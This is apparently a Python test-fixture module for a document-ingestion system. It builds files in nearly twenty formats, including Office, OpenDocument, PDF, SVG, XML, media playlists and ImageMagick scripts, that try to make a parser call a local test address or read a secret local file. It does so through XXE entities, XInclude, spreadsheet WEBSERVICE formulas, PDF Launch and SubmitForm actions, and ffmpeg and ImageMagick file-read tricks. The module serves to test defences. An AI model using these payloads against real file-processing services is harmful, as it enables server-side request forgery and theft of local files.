"""Files that ask whoever opens them to call somebody, or to show a file of the machine that they lie on."""

from __future__ import annotations

import io
import struct
from collections.abc import Callable

import pikepdf

from tests.ingest.hostile_files import opendocument, xlsx
from tests.ingest.made_files import WORDS, docx, epub, svg

_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _outside(kind: str, target: str, number: int = 1) -> str:
    return f'<Relationship Id="rId{number}" Type="{_TYPES}/{kind}" Target="{target}" TargetMode="External"/>'


def _picture(reference: str) -> str:
    """A picture of a Word file that lies behind a relation."""
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing"><wp:extent cx="90000" cy="90000"/>'
        f'<wp:docPr id="1" name="a"/><a:graphic xmlns:a="{drawing}/main"><a:graphicData uri="{drawing}/picture">'
        f'<pic:pic xmlns:pic="{drawing}/picture"><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{reference}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def _docx(url: str, secret: str) -> bytes:
    settings = "http://schemas.openxmlformats.org/package/2006/relationships"
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r>'
    field += '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return docx(
        parts={
            "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{word}" xmlns:r="{_TYPES}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{settings}">'
            f"{_outside('attachedTemplate', url + '/template.dotm')}</Relationships>",
        },
        relations=_outside("image", f"{url}/docx.png", 7)
        + _outside("image", f"file://{secret}", 8)
        + _outside("aFChunk", f"{url}/chunk.html", 9)
        + '<Relationship Id="rId10" Type="' + _TYPES + '/settings" Target="settings.xml"/>',
        inside=_picture("rId7") + _picture("rId8") + '<w:altChunk r:id="rId9"/>'
        + field.format(f'INCLUDETEXT "{secret}"') + field.format(f'INCLUDEPICTURE "{url}/field.png"'),
    )  # fmt: skip


def _xlsx(url: str, secret: str) -> bytes:
    cells = (
        f'<row r="1"><c r="A1" t="str"><f>WEBSERVICE("{url}/xlsx")</f><v>x</v></c><c r="B1" t="str"><f>HYPERLINK("{url}'
        f'/link","a")</f><v>a</v></c><c r="C1" t="str"><f>\'file://{secret}\'#$Sheet1.A1</f><v>y</v></c></row>'
    )
    return xlsx(cells)


def _image(target: str) -> str:
    return (
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:type="simple" '
        f'xlink:show="embed" xlink:actuate="onLoad" xlink:href="{target}"/></draw:frame></text:p>'
    )


def _odt(url: str, secret: str) -> bytes:
    section = (
        '<text:section text:name="a"><text:section-source xlink:type="simple" xlink:href="{}"/><text:p/></text:section>'
    )
    return opendocument(
        "text",
        f"<text:p>{WORDS}</text:p>"
        + _image(f"{url}/odt.png") + _image(f"file://{secret}") + section.format(f"{url}/section.odt")
        + section.format(f"file://{secret}"),
    )  # fmt: skip


def _ods(url: str, secret: str) -> bytes:
    source = '<table:table table:name="{}"><table:table-source xlink:type="simple" xlink:href="{}" '
    source += 'table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,0,1"/>'
    source += (
        '<table:table-row><table:table-cell office:value-type="string" table:formula="of:=WEBSERVICE(&quot;{}&quot;)">'
    )
    source += "<text:p>a</text:p></table:table-cell></table:table-row></table:table>"
    return opendocument(
        "spreadsheet", source.format("a", f"{url}/ods.csv", f"{url}/web") + source.format("b", f"file://{secret}", url)
    )


def _rtf(url: str, secret: str) -> bytes:
    field = "{\\field{\\*\\fldinst %s }{\\fldrslt a}}"
    body = field % f'INCLUDEPICTURE "{url}/rtf.png" \\\\d' + field % f'INCLUDETEXT "{secret}"'
    return ("{\\rtf1\\ansi{\\*\\template " + url + "/t.dot}Quyet dinh " + body + "\\par}").encode()


def _html(url: str, secret: str) -> bytes:
    return (
        f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><link rel="stylesheet" href="{url}/a.css">'
        f'<script src="{url}/a.js"></script></head><body background="{url}/b.png"><p>{WORDS}</p><img src="{url}/c.png">'
        f'<img src="file://{secret}"><iframe src="{url}/d.html"></iframe><object data="file://{secret}"></object></body>'
        "</html>\n"
    ).encode()


def _svg(url: str, secret: str) -> bytes:
    inside = f'<image xlink:href="{url}/svg.png" width="9" height="9"/><image xlink:href="file://{secret}" width="9" '
    inside += f'height="9"/><use xlink:href="{url}/use.svg#a"/><style>@import url("{url}/a.css");</style>'
    head, _, body = svg(inside + "<text>&secret;</text>").partition(b"\n")
    entity = f'<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://{secret}"><!ENTITY % out SYSTEM "{url}/a.dtd"> %out;]>'
    sheet = f'<?xml-stylesheet href="{url}/sheet.css" type="text/css"?>'
    return b"\n".join((head, sheet.encode(), entity.encode(), body))


def _xml(url: str, secret: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE hoso SYSTEM "{url}/hoso.dtd" [<!ENTITY a SYSTEM "file://{secret}">'
        f'<!ENTITY % b SYSTEM "{url}/b.ent"> %b;]>\n<hoso xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{url}/a.xsd">&a;'
        f'<xi:include href="file://{secret}" parse="text"/><xi:include href="{url}/i.xml"/></hoso>\n'
    ).encode()


def _pdf(url: str, secret: str) -> bytes:
    name, text = pikepdf.Name, pikepdf.String
    with pikepdf.new() as made:
        page = made.add_blank_page(page_size=(200, 200))
        where = pikepdf.Dictionary(Type=name.Filespec, FS=name.URL, F=text(f"{url}/far.pdf"))
        local = pikepdf.Dictionary(Type=name.Filespec, F=text(secret))
        made.Root.OpenAction = pikepdf.Dictionary(S=name.URI, URI=text(f"{url}/open"))
        made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=name.SubmitForm, F=where, Fields=[]))
        far = pikepdf.Stream(made, b"")
        far.F, far.Type, far.Subtype, far.BBox = local, name.XObject, name.Form, [0, 0, 200, 200]
        picture = pikepdf.Stream(made, b"")
        picture.F, picture.Type, picture.Subtype, picture.Width, picture.Height = where, name.XObject, name.Image, 8, 8
        picture.ColorSpace, picture.BitsPerComponent = name.DeviceRGB, 8
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=far, B=picture))
        page.Contents = pikepdf.Stream(made, b"q /A Do Q q 90 0 0 90 0 0 cm /B Do Q")
        jump = pikepdf.Dictionary(S=name.GoToR, F=where, D=[0, name.Fit])
        launch = pikepdf.Dictionary(S=name.Launch, F=local)
        page.AA = pikepdf.Dictionary(O=jump, C=launch)
        out = io.BytesIO()
        made.save(out, deterministic_id=True)
        return out.getvalue()


def _playlist(url: str, secret: str) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"{url}/key\"\n#EXTINF:1,\n{url}/a.ts\n"
        f"#EXTINF:1,\nfile://{secret}\n#EXTINF:1,\nconcat:{secret}|{secret}\n#EXT-X-ENDLIST\n"
    ).encode()  # fmt: skip


def _concat(url: str, secret: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{secret}'\nfile '{url}/a'\nfile 'subfile,,start,0,end,9,,:{secret}'\n".encode()


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def _mov(url: str, secret: str) -> bytes:
    """A QuickTime film whose pictures lie elsewhere: a data reference, and a reference film."""
    far = _box(b"url ", struct.pack(">I", 0) + url.encode() + b"/media.mov\0")
    near = _box(b"url ", struct.pack(">I", 0) + b"file://" + secret.encode() + b"\0")
    reference = struct.pack(">I4sI", 0, b"url ", len(url) + 9) + url.encode() + b"/ref.mov\0"
    references = _box(b"dref", struct.pack(">II", 0, 2) + far + near)
    table = _box(b"stbl", _box(b"stsd", struct.pack(">II", 0, 0)) + _box(b"stco", struct.pack(">III", 0, 1, 0)))
    track = _box(b"trak", _box(b"tkhd", bytes(84)) + _box(b"mdia", _box(b"mdhd", bytes(24)) + _box(
        b"minf", _box(b"dinf", references) + table)))  # fmt: skip
    film = _box(b"moov", _box(b"mvhd", bytes(100)) + track + _box(b"rmra", _box(b"rmda", _box(b"rdrf", reference))))
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + film + _box(b"mdat", bytes(64))


def _asx(url: str, secret: str) -> bytes:
    return f'<asx version="3.0"><entry><ref href="{url}/a.wmv"/><ref href="file://{secret}"/></entry></asx>\n'.encode()


def _mvg(url: str, secret: str) -> bytes:
    return (
        f"push graphic-context\nviewbox 0 0 80 60\nfill 'url({url}/mvg.png)'\nimage over 0,0 0,0 '{url}/over.png'\n"
        f"image over 0,0 0,0 'label:@{secret}'\nimage over 0,0 0,0 'ephemeral:/tmp/x'\npop graphic-context\n"
    ).encode()


def _msl(url: str, secret: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<image><read filename="{url}/msl.png"/><read filename="text:{secret}"/>'
        '<write filename="/tmp/msl-wrote.png"/></image>\n'
    ).encode()


def _eps(url: str, secret: str) -> bytes:
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 80 60\n({secret}) (r) file 9 string readstring\n".encode()


def _pict(url: str, secret: str) -> bytes:
    """A QuickDraw picture whose comment names an address."""
    comment = struct.pack(">HHH", 0x00A1, 100, len(url)) + url.encode() + b"\0" * (len(url) % 2)
    return bytes(512) + struct.pack(">HhhhhHH", 0, 0, 0, 60, 80, 0x0011, 0x02FF) + comment + b"\x00\xff"


def _eml(url: str, secret: str) -> bytes:
    return (
        f"From: a@example.org\nTo: b@example.org\nDate: Sat, 28 Nov 2020 10:00:00 +0700\nMIME-Version: 1.0\n"
        f'Content-Type: text/html; charset=utf-8\n\n<img src="{url}/eml.png"><link href="file://{secret}">\n'
    ).encode()


CALLING: dict[str, tuple[str, Callable[[str, str], bytes]]] = {
    "Mẫu ở xa.docx": ("word", _docx),
    "Công thức.xlsx": ("excel", _xlsx),
    "Ảnh ở xa.odt": ("odt", _odt),
    "Nguồn ở xa.ods": ("odt", _ods),
    "Trường.rtf": ("rtf", _rtf),
    "Trang.html": ("", _html),
    "Sơ đồ.svg": ("", _svg),
    "Hồ sơ.xml": ("", _xml),
    "Hành động.pdf": ("pdf", _pdf),
    "Danh sách phát.mp4": ("video-obsolete", _playlist),
    "Ghép.avi": ("video-obsolete", _concat),
    "Tham chiếu.mov": ("video-obsolete", _mov),
    "Danh sách.wma": ("audio-obsolete", _asx),
    "Vẽ.bmp": ("image-tiff", _mvg),
    "Lệnh.gif": ("image-frames", _msl),
    "Trang.eps": ("image-tiff", _eps),
    "Hình.pict": ("image-tiff", _pict),
    "Thư.eml": ("", _eml),
    "Sách.epub": ("", lambda url, secret: epub(f'<img src="{url}/epub.png"/>')),
}
"""By name: the rule that is tried on it whatever its format is (none: the ingest alone), and what makes it of an
address (`http://127.0.0.1:PORT`) and the path of a file that is nobody's business."""
